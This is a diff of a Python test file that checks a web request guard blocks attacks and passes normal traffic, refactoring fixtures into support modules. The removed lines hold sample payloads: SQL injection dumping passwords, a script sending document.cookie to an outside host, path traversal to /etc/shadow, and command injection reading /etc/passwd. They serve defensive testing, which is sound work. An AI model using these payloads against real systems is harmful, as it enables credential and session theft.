@@ -8,15 +8,16 @@ import subprocess
 import sys
 import threading
 import time
-from collections.abc import Callable, Iterable, Iterator
+from collections.abc import Iterable, Iterator
 from pathlib import Path
 from typing import Any
-from wsgiref.simple_server import WSGIRequestHandler, make_server
 
 import pytest
 import requests
 
+from tests.support.guarded_requests import AGENT, ATTACKS, NORMAL, check, sender
 from tests.support.servers import write_config
+from tests.support.wsgi import serving
 from torchmar import archive, recipe
 from torchmar.connection import Endpoint
 from torchmar.engines.builtin import Builtin
@@ -35,25 +36,6 @@ def handle(rows, context):
     found = [any(sign in text for sign in SIGNS) for text in texts]
     return [{"attack": 0.99 if one else 0.01, "normal": 0.01 if one else 0.99} for one in found]
 """
-AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
-SQL = "7' UNION SELECT login, password FROM users-- "
-SCRIPT = "nice <script>fetch('//example.org/' + document.cookie)</script>"
-
-# What a client sends: method, path, and arguments of requests.
-ATTACKS: dict[str, tuple[str, str, dict[str, Any]]] = {
-    "sql": ("GET", "/products", {"params": {"category": "shoes", "id": SQL}}),
-    "path": ("GET", "/download", {"params": {"file": "../../../../etc/shadow"}}),
-    "command": ("GET", "/ping", {"params": {"host": "127.0.0.1; cat /etc/passwd"}}),
-    "form": ("POST", "/comments", {"data": {"author": "ada", "text": SCRIPT}}),
-    "json": ("POST", "/comments", {"json": {"author": "ada", "text": SCRIPT}}),
-}
-NORMAL: dict[str, tuple[str, str, dict[str, Any]]] = {
-    "page": ("GET", "/blog/2026/11/29/how-we-moved/", {}),
-    "search": ("GET", "/search", {"params": {"q": "where to select a union", "page": "2"}}),
-    "form": ("POST", "/contact", {"data": {"name": "Seán O'Brien", "message": "It's fine -- thanks; bye (for now)!"}}),
-    "json": ("POST", "/api/posts", {"json": {"title": "News", "body": "<p>It's <b>here</b>: 3 < 4 & so on</p>"}}),
-    "file": ("PUT", "/photos/1.png", {"data": b"\x89PNG\r\n" + SQL.encode(), "headers": {"Content-Type": "image/png"}}),
-}
 
 
 @pytest.fixture(scope="module")
@@ -75,49 +57,13 @@ def guard(model: Endpoint) -> Iterator[Guard]:
     guard.close()
 
 
-Send = Callable[[str, str, dict[str, Any]], requests.Response]
-
-
-def sender(port: int) -> Send:
-    def send(method: str, path: str, arguments: dict[str, Any]) -> requests.Response:
-        headers = {"User-Agent": AGENT, **arguments.get("headers", {})}
-        return requests.request(
-            method, f"http://127.0.0.1:{port}{path}", timeout=30, **{**arguments, "headers": headers}
-        )
-
-    return send
-
-
-def check(send: Send) -> None:
-    """Send attacks and normal requests; what passes is answered with the body that was sent."""
-    for name, request in ATTACKS.items():
-        response = send(*request)
-        assert (response.status_code, response.text) == (403, "Forbidden\n"), name
-    for name, request in NORMAL.items():
-        response = send(*request)
-        assert response.status_code == 200, name
-        body = response.request.body or b""
-        assert response.content == (body.encode() if isinstance(body, str) else body), name
-
-
-class Quiet(WSGIRequestHandler):
-    def log_message(self, *arguments: Any) -> None:
-        """Log nothing."""
-
-
 def test_a_wsgi_application(guard: Guard) -> None:
     def application(environ: dict[str, Any], start_response: Any) -> Iterable[bytes]:
         start_response("200 OK", [("Content-Type", "application/octet-stream")])
         return [environ["wsgi.input"].read(int(environ.get("CONTENT_LENGTH") or 0))]
 
-    with make_server("127.0.0.1", 0, WsgiGuard(application, guard), handler_class=Quiet) as server:
-        thread = threading.Thread(target=server.serve_forever)
-        thread.start()
-        try:
-            check(sender(server.server_port))
-        finally:
-            server.shutdown()
-            thread.join()
+    with serving(WsgiGuard(application, guard)) as port:
+        check(sender(port))
 
 
 def test_a_starlette_application(guard: Guard) -> None:
